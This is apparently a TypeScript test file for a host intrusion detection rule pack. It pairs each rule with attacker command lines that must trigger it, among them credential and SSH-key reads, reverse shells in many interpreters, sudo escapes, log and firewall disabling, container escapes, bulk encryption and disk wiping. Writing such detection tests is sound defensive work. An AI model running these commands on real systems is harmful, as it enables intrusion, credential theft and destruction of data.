// Ways to do what the rules are about, and the rule that each must make fire: options together, apart, long, last; other tools.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildRuleBatch, parseRule, RuleEngine } from './index.ts';

const folder = join(import.meta.dirname, '../pack');
const engine = new RuleEngine(
  readdirSync(folder)
    .filter((file) => file.endsWith('.yml'))
    .map((file) => parseRule(file, readFileSync(join(folder, file), 'utf8'))),
);

interface Attack {
  readonly rule: string;
  readonly Image: string;
  readonly CommandLine: string;
  readonly Container: string;
}

const container = 'in a container: ';

/** A rule, and below it the image and the command line of each way. */
function attacksOf(text: string): Attack[] {
  let heading = '';
  return text
    .trim()
    .split('\n')
    .flatMap((line) => {
      if (!line.startsWith('  ')) heading = line;
      const [, Image, CommandLine] = /^ {2}(\S+) (.*)$/.exec(line) ?? [];
      if (Image === undefined || CommandLine === undefined) return [];
      const rule = heading.replace(container, '');
      return [{ rule, Image, CommandLine, Container: heading === rule ? '' : '4f1c9a2b77e0' }];
    });
}

const ways = String.raw`
credential_file_read
  /bin/cat cat /etc/shadow /etc/passwd
  /bin/cp cp -a /etc/shadow /tmp/s
  /bin/busybox busybox cat /etc/shadow
  /usr/bin/bash bash -c while read -r l; do :; done </etc/shadow
  /usr/bin/unshadow unshadow /etc/passwd /etc/shadow
  /usr/bin/cat cat /proc/1/root/etc/shadow
  /usr/bin/xxd xxd /etc/security/opasswd
ssh_private_key_read
  /bin/cat cat /home/eve/.ssh/id_ecdsa
  /usr/bin/find find /home /root -name id_* -o -name *.pem
  /usr/bin/base64 base64 /root/.ssh/id_ed25519
cloud_credentials_read
  /bin/cat cat /home/eve/.docker/config.json
  /bin/grep grep aws_secret /home/eve/.aws/credentials
  /bin/cp cp /root/.config/gcloud/application_default_credentials.json /tmp
process_memory_dumped
  /bin/sh /bin/sh /usr/bin/gcore 1234
  /bin/bash /bin/bash /usr/bin/gcore -a -o /tmp/x 1234
  /tmp/a/gcore gcore 1234
  /usr/bin/gdb gdb -batch -p 1234 -ex gcore /tmp/x
  /usr/bin/gdb gdb -nx --batch -ex set pagination off -ex generate-core-file /tmp/c --pid 33
  /bin/dd dd if=/proc/self/mem of=/dev/null bs=1 count=0
password_cracker_started
  /tmp/x/hashcat hashcat -m 1800 -a 0 hash.txt words.txt
  /usr/bin/hydra hydra -l root -P w.txt ssh://127.0.0.1
  /tmp/john john /tmp/hashes
keys_searched_by_grep
  /bin/grep grep -rli password /home
  /bin/grep grep -rnE (password|secret)= /var/www
  /bin/grep grep -R --include=*.conf passwd /etc/
  /bin/busybox grep -r BEGIN RSA PRIVATE KEY /root
  /bin/grep grep -r -e api_key /opt
kubernetes_token_read
  /bin/cat cat /run/secrets/kubernetes.io/serviceaccount/token
  /bin/cp cp -r /var/run/secrets/kubernetes.io/serviceaccount /tmp/x
metadata_service_access
  /bin/wget wget -qO- http://169.254.169.254/latest/api/token
  /usr/bin/curl curl -H Metadata:true http://169.254.169.254/metadata/instance?api-version=2021-02-01
account_created
  /usr/sbin/useradd useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor
  /usr/sbin/useradd useradd eve
  /usr/sbin/adduser adduser -D eve
password_set_by_pipe
  /bin/sh sh -c echo root:x | chpasswd
  /bin/busybox chpasswd -e
  /usr/bin/passwd passwd --stdin root
setuid_bit_set
  /bin/chmod chmod 4755 /tmp/rootbash
  /bin/chmod chmod u+s,g+s /tmp/x
  /bin/chmod chmod 06777 /tmp/x
  /bin/chmod chmod ug+s /tmp/x
  /bin/chmod chmod a+s /tmp/x
  /bin/busybox busybox chmod u+s /tmp/x
  /bin/chmod chmod --recursive u+s /tmp/x
  /usr/bin/python3.11 python3 -c import os; os.chmod("/tmp/x", 0o4755)
file_capability_set
  /usr/sbin/setcap setcap cap_setuid,cap_setgid+eip /tmp/x
  /usr/sbin/setcap setcap =ep /tmp/x
  /usr/sbin/setcap setcap all+ep /tmp/x
sudo_shell_escape
  /usr/bin/sudo sudo find / -exec /bin/bash ;
  /usr/bin/find find . -maxdepth 0 -exec sh ; -quit
  /usr/bin/sudo sudo vim -c :!/bin/bash
  /usr/bin/gawk awk BEGIN {system("/bin/sh")}
  /usr/bin/mawk mawk BEGIN { system("/bin/bash") }
  /usr/bin/tar tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh
  /usr/bin/sudo sudo -u#-1 /bin/bash
  /usr/bin/sudo sudo env /bin/sh
  /usr/bin/sudo sudo less /etc/profile
  /usr/bin/zip zip /tmp/x.zip /etc/hosts -T -TT sh #
pkexec_suspicious
  /usr/bin/pkexec pkexec bash
  /usr/bin/pkexec pkexec --user root /bin/bash
docker_run_root_mount
  /usr/bin/docker docker run --rm -v /:/host -it alpine chroot /host
  /usr/bin/docker docker run --volume=/:/host:rw alpine
  /usr/bin/docker docker create -v /:/m debian
  /usr/bin/docker docker run --mount=type=bind,src=/,dst=/h alpine
container_group_added
  /usr/sbin/usermod usermod -a -G docker eve
  /usr/sbin/usermod usermod --append --groups sudo,docker eve
  /usr/sbin/usermod usermod eve -aG lxd
  /usr/bin/gpasswd gpasswd -a eve docker
  /bin/busybox addgroup eve docker
timestomp
  /usr/bin/touch touch -d 2019-01-01 00:00:00 /etc/passwd.bak
  /usr/bin/touch touch -acmr /bin/sh /usr/bin/x
  /bin/touch touch -t 201901010000 /tmp/x
  /bin/touch touch --reference=/etc/passwd /var/www/shell.php
  /usr/bin/python3.11 python3 -c import os; os.utime("/tmp/x",(0,0))
shell_history_cleared
  /usr/bin/rm rm -f /root/.bash_history
  /bin/bash bash -c export HISTFILE=/dev/null
  /bin/bash bash -c HISTSIZE=0 HISTFILESIZE=0; id
  /bin/bash bash -c history -c && history -w
  /bin/sh sh -c : > /root/.bash_history
  /bin/cp cp /dev/null /root/.bash_history
  /bin/sh sh -c cat /dev/null > ~/.bash_history
  /usr/bin/env env HISTFILE=/dev/null bash
security_tool_stopped
  /usr/bin/systemctl systemctl --now disable auditd.service
  /usr/bin/systemctl systemctl stop rsyslog
  /usr/bin/systemctl systemctl mask syslog.socket rsyslog.service
  /usr/bin/killall killall -9 auditd
  /usr/bin/pkill pkill auditd
  /bin/busybox killall syslogd
  /usr/sbin/service service rsyslog stop
firewall_flushed
  /usr/sbin/xtables-nft-multi iptables --flush
  /usr/sbin/iptables iptables -F INPUT
  /usr/sbin/iptables iptables -t filter -F
  /usr/sbin/iptables iptables -P INPUT ACCEPT
  /usr/sbin/nft nft flush ruleset
  /usr/bin/systemctl systemctl stop firewalld
  /usr/sbin/ufw ufw disable
mandatory_access_control_disabled
  /usr/sbin/setenforce setenforce Permissive
  /usr/bin/systemctl systemctl stop apparmor
  /tmp/aa-teardown aa-teardown
  /usr/sbin/apparmor_parser apparmor_parser -R /etc/apparmor.d/x
  /usr/bin/python3.11 /usr/bin/python3 /usr/sbin/aa-complain /usr/sbin/nginx
file_made_immutable
  /usr/bin/chattr chattr +ia /tmp/x
  /usr/bin/chattr chattr -i /etc/passwd
  /bin/busybox chattr +i /x
kernel_thread_masquerade
  /tmp/sleep [kworker/u4:2] 5
  /tmp/kworker /tmp/kworker 5
  /bin/sleep kworker/0:0 5
audit_rules_flushed
  /sbin/auditctl auditctl -e0
file_shredded
  /usr/bin/shred shred -zu x
network_scanner_started
  /usr/bin/nmap nmap 127.0.0.1
  /bin/nc nc -z -v 127.0.0.1 1-1000
  /bin/bash bash -c for i in {1..254}; do ping -c1 -W1 10.0.0.$i; done
  /bin/sh sh -c for p in 21 22 80; do nc -z -w1 127.0.0.1 $p; done
container_runtime_discovery
  /bin/ls ls /.dockerenv
  /bin/grep grep CapEff /proc/self/status
  /bin/ls ls -l /var/run/docker.sock
setuid_files_searched
  /bin/find find / -user root -perm -4000 -print
  /bin/find find /usr -perm /6000
  /bin/find find / -perm -u+s -type f
  /bin/find find / -perm -04000
  /bin/find find / -perm /u=s
  /bin/find find / ( -perm -4000 -o -perm -2000 ) -type f
system_discovery
  /usr/bin/id id
  /bin/busybox whoami
  /bin/whoami whoami
  /bin/uname uname -a
interpreter_reverse_shell
  /usr/bin/python3.11 python3 -c import socket,subprocess as s;c=socket.socket();c.connect(("127.0.0.1",9));s.call(["/bin/sh","-i"])
  /usr/bin/perl perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));exec("/bin/sh -i");
  /bin/nc nc -e /bin/sh 127.0.0.1 4444
  /bin/busybox busybox nc 127.0.0.1 4444 -e /bin/sh
  /bin/sh sh -c rm -f /tmp/f; mkfifo /tmp/f; nc 127.0.0.1 4444 < /tmp/f | /bin/sh > /tmp/f 2>&1
  /bin/sh sh -c cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f
  /usr/bin/socat socat exec:/bin/bash,pty,stderr tcp:127.0.0.1:4444
  /usr/bin/lua lua -e require("socket");require("os");t=socket.tcp();t:connect("1","2");os.execute("/bin/sh -i")
  /usr/bin/node node -e (function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);})()
  /usr/bin/ruby ruby -rsocket -e exit if fork;c=TCPSocket.new("1","2");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end
  /usr/bin/php php -r $sock=fsockopen("127.0.0.1",1);exec("/bin/sh -i <&3 >&3 2>&3");
  /usr/bin/gawk awk BEGIN {s = "/inet/tcp/0/127.0.0.1/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; } while(c != "exit") }}
interactive_shell_by_interpreter
  /usr/bin/python3.11 python3 -c import pty;pty.spawn("/bin/sh")
  /usr/bin/python2 python -c import os; os.system("/bin/bash")
  /usr/bin/script script /dev/null -c bash
  /usr/bin/script script -q /dev/null -c /bin/sh
  /usr/bin/ruby3.1 ruby -e exec "/bin/sh"
  /usr/bin/expect expect -c spawn /bin/sh;interact
compiler_in_temp
  /usr/bin/gcc gcc /tmp/x.c -o /tmp/x
  /tmp/gcc gcc -o /tmp/x x.c
  /usr/bin/tcc tcc -run /dev/shm/x.c
encoded_interpreter_code
  /usr/bin/python3.11 python3 -c import base64,zlib;exec(zlib.decompress(base64.b64decode("x")))
  /usr/bin/python3.11 python3 -c exec("\x69\x6d")
  /usr/bin/perl perl -MMIME::Base64 -e eval(decode_base64("cHJpbnQ="))
  /bin/sh sh -c printf "\x69\x64\x0a\x20\x20" | sh
  /bin/sh sh -c echo 6964 | xxd -p -r | bash
  /usr/bin/node node -e eval(Buffer.from("MQ==","base64").toString())
  /usr/bin/ruby3.1 ruby -e eval(["7075"].pack("H*"))
tunnel_tool_started
  /tmp/ngrok ngrok tcp 22
  /tmp/frpc frpc -c /tmp/frpc.ini
  /usr/bin/ssh ssh -R 80:localhost:8080 serveo.net
ssh_tunnel_opened
  /usr/bin/ssh ssh -N -D 127.0.0.1:9050 x@h
  /usr/bin/ssh ssh -NR 9000:localhost:22 x@h
  /usr/bin/ssh ssh -fNTR *:9000:localhost:22 x@h
  /usr/bin/ssh ssh -o RemoteForward=9000 localhost:22 x@h
  /usr/bin/ssh ssh -w 0:0 x@h
anonymiser_used
  /tmp/torsocks torsocks curl x
  /tmp/proxychains4 proxychains4 nmap x
dns_tunnel_tool
  /tmp/dnscat dnscat --dns x
  /bin/nslookup nslookup aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.x.example
download_to_temp
  /usr/bin/curl curl http://127.0.0.1:1/x -o /tmp/x
  /usr/bin/curl curl -so/dev/shm/x http://127.0.0.1/x
  /usr/bin/wget wget -P /tmp http://127.0.0.1/x
archive_of_sensitive_files
  /bin/tar tar -czf /tmp/x.tgz -C /root .ssh
  /bin/tar tar cz /home/eve/.aws /home/eve/.kube
  /usr/bin/7z 7z a /tmp/x.7z /etc/shadow
upload_by_http_tool
  /usr/bin/curl curl --data-binary @/tmp/x http://127.0.0.1:1/
  /usr/bin/curl curl -F data=@/tmp/x.tgz http://127.0.0.1:1/
  /usr/bin/curl curl --upload-file /tmp/x http://127.0.0.1:1/
  /usr/bin/wget wget --post-file /tmp/x http://127.0.0.1/
  /usr/bin/curl curl -T- http://127.0.0.1/
cloud_sync_tool
  /tmp/rclone rclone copy /srv remote:x
  /tmp/rclone rclone sync /home r:x --config /tmp/c
  /tmp/aws aws s3 cp /etc/passwd s3://b/
  /tmp/aws aws s3 sync /home/eve s3://b/x --quiet
  /tmp/gsutil gsutil cp -r /root gs://b
copy_by_network_cat
  /bin/sh sh -c cat /etc/hosts | nc -w1 127.0.0.1 9
  /bin/sh sh -c nc 127.0.0.1 9 < /etc/hosts
  /bin/sh sh -c tar cf - /etc/hosts | socat - TCP:127.0.0.1:9
  /bin/bash bash -c cat /etc/hosts >/dev/tcp/127.0.0.1/9
namespace_entered
  /usr/bin/nsenter nsenter --target 1 --mount --pid -- sh
  /usr/bin/nsenter nsenter -at1 sh
  /usr/bin/nsenter nsenter -m/proc/1/ns/mnt sh
in a container: namespace_entered
  /usr/bin/unshare unshare -r -m sh
  /usr/bin/unshare unshare --user --mount sh
  /usr/sbin/chroot chroot /host sh
in a container: host_device_mounted
  /bin/mount mount -t cgroup -o rdma cgroup /tmp/c
  /bin/busybox mount /dev/vda /mnt
  /bin/dd dd if=/dev/vda of=/tmp/x bs=512 count=1
  /bin/mknod mknod -m 600 /tmp/x b 254 0
container_socket_used
  /usr/bin/curl curl --unix-socket /run/docker.sock http://x/version
  /bin/nc nc -U /var/run/docker.sock
  /usr/bin/socat socat - UNIX-CONNECT:/var/run/docker.sock
in a container: container_socket_used
  /bin/docker docker -H unix:///var/run/docker.sock ps
privileged_container_started
  /usr/bin/docker docker run --privileged=true alpine
  /usr/bin/docker docker run --cap-add=SYS_ADMIN alpine
  /usr/bin/docker docker run --cap-add ALL alpine
  /usr/bin/docker docker run --pid host alpine
  /usr/bin/docker docker run --device=/dev/sda alpine
  /usr/bin/docker docker exec --privileged c sh
sensitive_host_path_mounted
  /usr/bin/docker docker run -v /proc:/host/proc alpine
  /usr/bin/docker docker run -v /var/run/docker.sock:/s alpine
  /usr/bin/docker docker run -v /root/.ssh:/x alpine
  /usr/bin/docker docker run --volume /etc/shadow:/s:ro alpine
  /usr/bin/docker docker run --mount type=bind,src=/etc,dst=/e alpine
in a container: package_manager_in_container
  /sbin/apk apk add curl
  /usr/bin/apt apt install -y curl
  /usr/bin/python3.11 /usr/bin/python3 /usr/bin/pip install x
  /usr/bin/dpkg dpkg -i x.deb
kernel_module_loaded
  /sbin/insmod insmod ./x.ko
  /usr/bin/kmod /sbin/insmod /dev/shm/x.ko p=1
in a container: kernel_module_loaded
  /bin/modprobe modprobe dummy
ebpf_tool_used
  /usr/sbin/bpftool bpftool prog loadall x.o /sys/fs/bpf/x
  /usr/sbin/bpftool bpftool net attach xdp id 1 dev lo
  /usr/bin/bpftrace bpftrace /tmp/x.bt
  /sbin/ip ip link set dev lo xdp obj x.o sec xdp
process_injection_tool
  /usr/bin/gdb gdb -p 12 --batch -ex print (int)dlopen("/tmp/x.so",1)
  /usr/bin/gdb gdb --pid=12 -ex call system("id")
  /usr/bin/env env LD_PRELOAD=/tmp/x.so id
  /bin/sh sh -c echo 0 > /proc/sys/kernel/yama/ptrace_scope
  /bin/dd dd if=/tmp/x of=/proc/12/mem bs=1 seek=1
  /usr/bin/strace strace -p 12 -e write
in a container: kubernetes_client_in_container
  /bin/kubectl kubectl get secrets -A
  /bin/wget wget -qO- https://kubernetes.default.svc/api
  /usr/bin/curl curl -sk https://10.96.0.1/api/v1/namespaces/default/pods
bulk_encryption_tool
  /bin/sh sh -c for f in *; do openssl enc -aes256 -in $f -out $f.enc; done
  /usr/bin/xargs xargs -I{} gpg --symmetric --batch {}
  /bin/sh sh -c find . -type f | while read f; do openssl enc -aes-256-cbc -pass pass:x -in "$f" -out "$f.l"; done
  /bin/sh sh -c find . -type f | xargs 7z a -psecret x.7z
disk_overwritten
  /bin/dd dd of=/dev/loop0 if=/dev/zero bs=1k count=1
  /bin/dd dd if=/dev/urandom of=/dev/sda
  /usr/sbin/blkdiscard blkdiscard -f /dev/sda
  /sbin/wipefs wipefs -a /dev/loop0
  /bin/sh sh -c cat /dev/zero > /dev/sda
backup_or_snapshot_deleted
  /bin/rm rm -rf /tmp/x/backups
  /bin/rm rm -r -f /var/backups/
  /bin/rm rm -rf /mnt/backup/* /mnt/backups
  /bin/find find /var/backups -type f -delete
  /usr/sbin/lvm lvremove -f vg/snap
  /usr/sbin/lvremove lvremove -y vg/snap
  /sbin/zfs zfs destroy -r tank@a
  /usr/bin/restic restic -r /r forget --keep-last 0 --prune
  /usr/bin/btrfs btrfs subvolume delete /snapshots/a
database_dumped
  /usr/bin/pg_dump pg_dump -h db x
  /usr/bin/sqlite3 sqlite3 /srv/x.db .dump
  /usr/bin/mongodump mongodump --out /tmp/x
  /usr/bin/mysql mysql -e select * from users into outfile "/tmp/x"
service_stopped_for_encryption
  /usr/bin/systemctl systemctl stop mariadb postgresql
  /usr/bin/killall killall -9 mysqld postgres
  /bin/sh sh -c for s in mysql postgresql mongod; do systemctl stop $s; done
  /bin/sh sh -c docker stop $(docker ps -aq)
  /usr/bin/pkill pkill -KILL postgres
in a container: shell_in_container
  /bin/sh sh
  /bin/bash /bin/bash -i
  /bin/bash -bash
hidden_executable_in_temp
  /tmp/.hidden /tmp/.hidden
  /dev/shm/.x/run run
  /bin/sh sh /tmp/.x.sh
`;

describe('an attack', () => {
  it.each(attacksOf(ways))('of $rule: $CommandLine', ({ rule, ...command }) => {
    const { matches } = engine.evaluate(
      buildRuleBatch([{ EventKind: 'exec', ParentImage: '/usr/bin/dash', ...command }]),
    );
    expect(matches.map((match) => match.rule.file)).toContain(`${rule}.yml`);
  });
});
